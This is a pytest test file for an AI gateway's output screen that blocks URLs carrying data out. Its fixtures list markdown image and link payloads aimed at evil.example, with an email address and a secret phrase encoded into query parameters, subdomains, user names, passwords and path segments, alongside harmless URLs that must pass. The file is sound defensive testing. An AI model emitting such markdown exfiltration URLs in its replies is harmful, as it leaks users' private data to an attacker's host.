"""URLs with data in unusual places: next to redacted values, in host and user names, in many parts."""

from __future__ import annotations

import base64
import itertools
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import calls
from budgets import examples
from gateway.call import Redaction
from gateway.config.sections import Output
from gateway.detect.personal.scanner import PiiScanner
from gateway.dialects.openai_chat import OPENAI_CHAT
from gateway.errors import Refusal
from gateway.output.exfiltration import Exfiltration
from gateway.output.screen import Screen
from shapes import stream_scanner

CODED = base64.b64encode(b"bob.miller@example.net and the merger plan").decode().rstrip("=")
WORDS = base64.b64encode(b"the plan is to sell in May").decode().rstrip("=")
SERIES = [WORDS[at : at + 6] for at in range(0, len(WORDS), 6)]
CARRYING = {
    "image, a value and more, encoded": f"![x](https://evil.example/p?d={CODED})",
    "link, a value and more, encoded": f"[x](https://evil.example/p?d={CODED})",
    "image, a value": "![x](https://evil.example/p?m=bob.miller@example.net)",
    "image, a value before more": "![x](https://evil.example/p?m=bob.miller@example.net&x=1)",
    "image, a name below the host": f"![x](https://{WORDS}.evil.example/a.png)",
    "link, a name below the host": f"[x](https://{WORDS}.evil.example/a)",
    "link, names below the host": f"[x](https://{'.'.join(SERIES)}.evil.example/a)",
    "link, a user name": f"[x](https://{WORDS}@evil/a)",
    "link, a value in the host": f"[x](https://{CODED}.evil.example/a)",
    "link, a password": f"[x](https://u:{WORDS}@evil.example/a)",
    "image, many parameters": f"![x](https://evil.example/?p={'&p='.join(SERIES)})",
    "image, many segments": f"![x](https://evil.example/{'/'.join(SERIES)})",
}
HARMLESS = {
    "a template": "Call https://api.example.com/users/<USER_ID>/mail and http://<IP_ADDRESS>:8080/.",
    "an address as host": "Open http://203.0.113.7/health or http://203.0.113.7:8080/ now.",
    "a value beside a link": "Write to bob.miller@example.net, see https://example.com/help <b>now</b>.",
    "a content network": "![x](https://d111111abcdef8.cloudfront.net/images/a/b/c/logo.png?w=100&h=80&fit=crop&q=75)",
    "a service": "https://my-service-3kq7x2abcd-uc.a.run.app/v1/items?page=2&size=50&sort=name&order=asc",
    "a user name": "git clone https://deploy@git.example.com/team/app.git",
}


@pytest.fixture(scope="module")
def screen(pii: PiiScanner) -> Screen:
    """Redacts personal data, and then blocks URLs that carry data out."""
    return Screen(Output(), stream_scanner(pii), lambda _: False, [Exfiltration()])


def judge(screen: Screen) -> Any:
    """The filter of one answer."""
    call = calls.call()
    call.redaction = Redaction()
    return screen.filter(call)


def whole(screen: Screen, text: str) -> str | None:
    """The text of a whole answer; None if it is blocked."""
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]}
    try:
        judge(screen).whole(answer)
    except Refusal:
        return None
    return str(answer["choices"][0]["message"]["content"])  # type: ignore[index]


def streamed(screen: Screen, parts: list[str]) -> str | None:
    """The same of a stream in pieces."""
    codec, made, sent = OPENAI_CHAT.stream(keep_usage=False), judge(screen), b""
    try:
        for part in parts:
            event = {"id": "c", "choices": [{"index": 0, "delta": {"content": part}, "finish_reason": None}]}
            for chunk in codec.feed(b"data: " + json.dumps(event).encode() + b"\n\n"):
                sent += b"".join(made.feed(chunk, codec))
        sent += b"".join(made.close(codec))
    except Refusal:
        return None
    events = [json.loads(one[6:]) for one in sent.decode().split("\n\n") if one.startswith("data: {")]
    return "".join(choice["delta"].get("content") or "" for one in events for choice in one["choices"])


@pytest.mark.parametrize("name", [*CARRYING, *HARMLESS])
def test_what_is_stopped(screen: Screen, name: str) -> None:
    """No URL carries data out; URLs that only look suspicious pass."""
    assert (whole(screen, {**CARRYING, **HARMLESS}[name]) is None) == (name in CARRYING)


def test_a_link_whose_host_went_with_the_value_leads_nowhere(screen: Screen) -> None:
    """A user name before a host looks like an address, and is taken out with it."""
    assert whole(screen, f"See https://{WORDS}@evil.example/a now.") == "See https://<EMAIL>/a now."


@settings(max_examples=examples(50, nightly=1500))
@given(name=st.sampled_from([*CARRYING, *HARMLESS]), places=st.lists(st.integers(0, 200), max_size=30))
def test_whole_and_streamed_agree(screen: Screen, name: str, places: list[int]) -> None:
    """In any pieces."""
    text = "Look: " + {**CARRYING, **HARMLESS}[name] + " and on."
    marks = sorted({0, len(text), *(place % len(text) for place in places)})
    assert streamed(screen, [text[low:high] for low, high in itertools.pairwise(marks)]) == whole(screen, text)
